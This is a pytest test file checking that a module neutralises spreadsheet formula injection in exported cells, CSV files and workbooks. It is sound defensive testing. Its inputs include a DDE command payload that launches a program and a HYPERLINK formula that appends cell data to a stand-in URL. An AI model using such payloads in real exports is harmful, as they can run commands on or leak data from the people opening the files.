"""Exported tables run nothing (S21)."""

from __future__ import annotations

import csv
from io import BytesIO

import openpyxl
import pytest

from order_flow.domain.access.harmless_tables import harmless_cell, harmless_csv, harmless_workbook


@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1"])
def test_what_would_run_is_a_text(text: str) -> None:
    assert harmless_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+86", "-1,234.50", "12%", "A=1", "", "王五"])
def test_numbers_and_words_stay(text: str) -> None:
    assert harmless_cell(text) == text


def test_a_csv_keeps_its_form() -> None:
    table = harmless_csv('"name";"total"\r\n"=1+1, x";-5\r\n', delimiter=";")
    assert list(csv.reader(table.splitlines(), delimiter=";")) == [["name", "total"], ["'=1+1, x", "-5"]]


def test_a_workbook_shows_the_text_that_was_typed() -> None:
    book = openpyxl.Workbook()
    rows = [["name", "total"], ['=HYPERLINK("http://x?"&A1,"<b>")', -5], ["=1+1", 2.5], ["王五 = x", None]]
    for row in rows:
        book.active.append(row)
    content = BytesIO()
    book.save(content)
    read = openpyxl.load_workbook(BytesIO(harmless_workbook(content.getvalue()))).active
    assert [[cell.value for cell in row] for row in read.iter_rows()] == rows
    assert {cell.data_type for row in read.iter_rows() for cell in row} == {"s", "n"}
